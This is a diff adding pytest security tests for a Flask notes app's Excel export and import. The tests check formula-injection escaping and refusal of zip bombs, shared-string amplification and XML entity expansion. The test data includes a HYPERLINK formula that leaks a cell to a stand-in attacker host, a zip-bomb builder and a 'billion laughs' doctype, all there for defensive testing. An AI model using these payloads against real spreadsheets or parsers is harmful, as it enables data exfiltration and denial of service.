@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import io
 import os
-import re
 import subprocess
 import sys
 from pathlib import Path
@@ -20,7 +19,6 @@ from notes.models import Note
 
 from .conftest import PASSWORD, csrf, make_app
 from .test_site import write
-
 
 # -- 11. the SQLite file ---------------------------------------------------------------------
 
@@ -164,3 +162,273 @@ def test_bad_admin_addresses_are_4xx_without_sql(client, admin, login) -> None:
         "csrf_token": csrf(client, "/admin/note/"), "action": "delete",
         "rowid": ["abc", "99999999999999999999"]})
     assert action.status_code == 400
+
+
+# -- 7. Excel export: no formulas -------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "=1+2", "+1+2", "-1+2", "@SUM(1)",
+            "\t=1+2", "\r=1+2"]
+
+
+def xlsx(rows: list[list[object]], write_only: bool = True) -> bytes:
+    from openpyxl import Workbook
+
+    book = Workbook(write_only=write_only)
+    sheet = book.create_sheet("notes") if write_only else book.active
+    for row in rows:
+        sheet.append(row)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def import_file(client, data: bytes, name: str = "notes.xlsx"):  # type: ignore[no-untyped-def]
+    r = client.post("/admin/excel/import", data={
+        "csrf_token": csrf(client, "/admin/excel/"), "file": (io.BytesIO(data), name)},
+        content_type="multipart/form-data", follow_redirects=True)
+    no_leak(r.get_data(as_text=True))
+    return r
+
+
+def test_export_writes_formulas_as_text(app, client, user, admin, login) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from notes.models import User
+    from notes.services import create_note
+
+    with app.app_context():
+        alice = db.session.get(User, user[0].id)
+        for text in FORMULAS:
+            create_note(alice, text, text)  # (the title's tab and CR are stripped)
+        db.session.commit()
+        stored = sorted([(n.title, n.body) for n in db.session.query(Note)])
+        assert any(body.startswith("\t") for _, body in stored)
+    login(client, admin[0].email)
+    r = client.get("/admin/excel/export")
+    assert r.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(r.data)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    sheet = load_workbook(io.BytesIO(r.data)).active
+    header = [c.value for c in sheet[1]]
+    title, body = header.index("title") + 1, header.index("body") + 1
+    cells = [(sheet.cell(n, title), sheet.cell(n, body)) for n in range(2, sheet.max_row + 1)]
+    assert sorted((t.value, b.value) for t, b in cells) == stored
+    for pair in cells:
+        for cell in pair:
+            assert cell.data_type == "s" and cell.quotePrefix, repr(cell.value)
+    again = import_file(client, r.data)  # the export imports back unchanged, as text
+    assert f"0 created, 0 updated, {len(FORMULAS)} skipped" in again.get_data(as_text=True)
+
+
+# -- 8. Excel import: limits, all-or-nothing, a short write -----------------------------------
+
+
+def test_import_applies_the_form_and_api_limits_per_cell(app, client, user, admin, login) -> None:
+    login(client, admin[0].email)
+    cells = ["y" * 16_000] * 62  # a cell holds 32,767 characters: longer texts continue
+    data = xlsx([["title", "author", "body", "id"] + [f"body_{n}" for n in range(2, 64)],
+                 ["Fine", user[0].email, "<p>ok</p>"],
+                 ["x" * 201, user[0].email, "<p>ok</p>"],
+                 ["Long", user[0].email, "x" * 8001, None, *cells],
+                 ["Bad id", user[0].email, "", "seven"],
+                 ])
+    r = import_file(client, data)
+    page = r.get_data(as_text=True)
+    assert r.status_code == 422
+    assert "row 3, column title: longer than 200 characters" in page
+    assert "row 4, column body: longer than 1000000 characters" in page
+    assert "row 5, column id: &#39;seven&#39; is not a note number" in page
+    with app.app_context():
+        assert db.session.query(Note).count() == 0  # all or nothing
+    exactly = xlsx([["title", "author", "body", "body_2"] + [f"body_{n}" for n in range(3, 64)],
+                    ["x" * 200, user[0].email, "x" * 8000, *cells]])
+    assert "1 created" in import_file(client, exactly).get_data(as_text=True)
+    with app.app_context():
+        assert len(db.session.query(Note).one().body) == 1_000_000
+    export = client.get("/admin/excel/export").data  # and back, whole, through a spreadsheet
+    again = import_file(client, export).get_data(as_text=True)
+    assert "0 created, 0 updated, 1 skipped" in again
+
+
+HEADER_ROW = ('<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c><c r="B1" '
+              't="inlineStr"><is><t>author</t></is></c><c r="C1" t="inlineStr"><is><t>body</t>'
+              '</is></c></row>')
+
+
+def raw_xlsx(rows: str | list[bytes], shared: str | None = None, prolog: str = "") -> bytes:
+    """An .xlsx written by hand: sheet rows as XML (a list: streamed chunks), and optionally
+    one shared string (what Excel itself writes; openpyxl writes inline strings)."""
+    import zipfile
+
+    template = zipfile.ZipFile(io.BytesIO(xlsx([["title", "author", "body"]])))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
+        for member in template.infolist():
+            data = template.read(member)
+            if member.filename == "xl/worksheets/sheet1.xml":
+                continue
+            if shared is not None and member.filename == "xl/_rels/workbook.xml.rels":
+                data = data.replace(b"</Relationships>", (
+                    b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
+                    b'officeDocument/2006/relationships/sharedStrings" '
+                    b'Target="sharedStrings.xml"/></Relationships>'))
+            if shared is not None and member.filename == "[Content_Types].xml":
+                data = data.replace(b"</Types>", (
+                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
+                    b'</Types>'))
+            book.writestr(member, data)
+        if shared is not None:
+            book.writestr("xl/sharedStrings.xml", (
+                '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+                f'count="1" uniqueCount="1"><si><t>{shared}</t></si></sst>'))
+        with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
+            sheet.write((prolog + '<worksheet xmlns="http://schemas.openxmlformats.org/'
+                         'spreadsheetml/2006/main"><sheetData>' + HEADER_ROW).encode())
+            for chunk in [rows.encode()] if isinstance(rows, str) else rows:
+                sheet.write(chunk)
+            sheet.write(b"</sheetData></worksheet>")
+    return out.getvalue()
+
+
+def zip_bomb(user_email: str, megabytes: int) -> bytes:
+    """An .xlsx whose one sheet holds a cell of ``megabytes`` MB of text (about 1000:1)."""
+    mb = b"a" * (1024 * 1024)
+    return raw_xlsx([(f'<row r="2"><c r="A2" t="inlineStr"><is><t>Bomb</t></is></c><c r="B2" '
+                      f't="inlineStr"><is><t>{user_email}</t></is></c><c r="C2" t="inlineStr">'
+                      '<is><t>').encode(), *[mb] * megabytes, b"</t></is></c></row>"])
+
+
+def test_import_refuses_big_files_zip_bombs_and_too_many_rows(app, client, user, admin,
+                                                               login) -> None:
+
+    login(client, admin[0].email)
+    bomb = zip_bomb(user[0].email, 100)
+    assert len(bomb) < 200_000
+    r = import_file(client, bomb)
+    assert r.status_code == 422
+    assert "the file unpacks to more than 32 MB (NOTES_IMPORT_MAX_UNPACKED)" in r.get_data(
+        as_text=True)
+    # one 1,000,000-character text shared by many cells: small unpacked, huge when read
+    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>S{n}</t></is></c>'
+                   f'<c r="B{n}" t="inlineStr"><is><t>{user[0].email}</t></is></c>'
+                   f'<c r="C{n}" t="s"><v>0</v></c></row>' for n in range(2, 42))
+    r = import_file(client, raw_xlsx(rows, shared="s" * 1_000_000))
+    assert r.status_code == 422
+    assert "holds more than 33554432 characters of text" in r.get_data(as_text=True)
+    app.config.update(NOTES_IMPORT_MAX_ROWS=3, NOTES_IMPORT_MAX_SIZE=20_000)
+    rows = xlsx([["title", "author", "body"]] + [[f"n{i}", user[0].email, "x"] for i in range(4)])
+    r = import_file(client, rows)
+    assert r.status_code == 422
+    assert "the file has more than 3 notes (NOTES_IMPORT_MAX_ROWS)" in r.get_data(as_text=True)
+    big = xlsx([["title", "author", "body", "body_2"],
+                ["Big", user[0].email, os.urandom(15000).hex(), os.urandom(15000).hex()]])
+    assert 20_000 < len(big) < 80_000
+    r = import_file(client, big)
+    assert r.status_code == 422 and "the file is larger than" in r.get_data(as_text=True)
+    huge = import_file(client, big * 10)  # refused before the upload is read
+    assert huge.status_code == 413 and "(NOTES_IMPORT_MAX_SIZE)" in huge.get_data(as_text=True)
+    with app.app_context():
+        assert db.session.query(Note).count() == 0
+
+
+def test_import_refuses_xml_entity_expansion(app, client, user, admin, login) -> None:
+    login(client, admin[0].email)
+    entities = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'
+                       for i in range(1, 10))
+    laughs = raw_xlsx(
+        f'<row r="2"><c r="A2" t="inlineStr"><is><t>L</t></is></c><c r="B2" t="inlineStr">'
+        f'<is><t>{user[0].email}</t></is></c><c r="C2" t="inlineStr"><is><t>&lol9;</t></is>'
+        '</c></row>',
+        prolog=f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>')
+    r = import_file(client, laughs)
+    assert r.status_code == 422 and "not a readable .xlsx file" in r.get_data(as_text=True)
+    with app.app_context():
+        assert db.session.query(Note).count() == 0
+
+
+def test_importing_an_export_updates_the_notes_it_names(app, client, user, other, admin,
+                                                        login) -> None:
+    from openpyxl import load_workbook
+
+    login(client, user[0].email)
+    for title in ("One", "Two", "Three"):
+        write(client, title, f"<p>{title}</p>")
+    boss = app.test_client()
+    login(boss, admin[0].email)
+    book = load_workbook(io.BytesIO(boss.get("/admin/excel/export").data))
+    sheet = book.active
+    header = [c.value for c in sheet[1]]
+    col = {name: header.index(name) + 1 for name in header}
+    sheet.cell(2, col["title"], "One, retitled")  # by id
+    sheet.cell(3, col["id"], None)  # by slug
+    sheet.cell(3, col["author"], other[0].email)
+    sheet.append(["", "Four", user[0].email, True, "<p>4</p>"])  # new
+    sheet.append([None, "Elsewhere", user[0].email, False, "<p>5</p>", "from-another-site"])
+    out = io.BytesIO()
+    book.save(out)
+    r = import_file(boss, out.getvalue())
+    assert "Imported: 2 created, 2 updated, 1 skipped (unchanged)." in r.get_data(as_text=True)
+    with app.app_context():
+        notes = {n.title: n for n in db.session.query(Note)}
+        assert sorted(notes) == ["Elsewhere", "Four", "One, retitled", "Three", "Two"]
+        assert notes["One, retitled"].slug == "one"  # links keep working
+        assert notes["Two"].author_id == other[0].id
+        assert notes["Elsewhere"].slug == "from-another-site"
+        assert notes["Four"].published and notes["Four"].published_at is not None
+    again = import_file(boss, out.getvalue())  # rows naming no note are new each time
+    assert "Imported: 1 created, 0 updated, 4 skipped" in again.get_data(as_text=True)
+    clash = xlsx([["id", "title", "author", "body", "slug"],
+                  [1, "x", user[0].email, "", "two"], [1, "y", user[0].email, "", "one"],
+                  [1, "z", user[0].email, "", ""]])
+    r = import_file(boss, clash)
+    page = r.get_data(as_text=True)
+    assert r.status_code == 422
+    assert "row 2, column slug: id 1 and slug &#39;two&#39; name two different notes" in page
+    assert "row 4, column id: the same note as row 3" in page
+
+
+def test_an_import_does_not_lock_other_writers_out(app, client, user, admin, login) -> None:
+    """Thousands of rows: other users keep writing meanwhile (never a 503 for a locked
+    database), and the import writes everything at once."""
+    import threading
+
+    from notes.auth import create_user
+
+    login(client, admin[0].email)
+    rows = [["title", "author", "body", "published"]] + [
+        [f"Imported {i}", user[0].email, f"<p>{i} {'words ' * 150}</p>", "yes"]
+        for i in range(5000)]
+    data = xlsx(rows)
+    with app.app_context():
+        for n in range(3):
+            create_user(f"writer{n}@example.com", PASSWORD)
+    done = threading.Event()
+    statuses: list[int] = []
+
+    def writer(n: int) -> None:
+        other = app.test_client()
+        login(other, f"writer{n}@example.com")
+        token = csrf(other, "/notes/new")
+        i = 0
+        while not done.is_set() or i < 3:
+            r = other.post("/notes/new", data={"title": f"w{n} {i}", "body": "x",
+                                               "csrf_token": token})
+            statuses.append(r.status_code)
+            i += 1
+
+    threads = [threading.Thread(target=writer, args=(n,)) for n in range(3)]
+    for t in threads:
+        t.start()
+    try:
+        r = import_file(client, data)
+    finally:
+        done.set()
+        for t in threads:
+            t.join(120)
+    assert "Imported: 5000 created" in r.get_data(as_text=True)
+    assert statuses and set(statuses) == {302}, sorted(set(statuses))
+    with app.app_context():
+        assert db.session.query(Note).count() == 5000 + len(statuses)
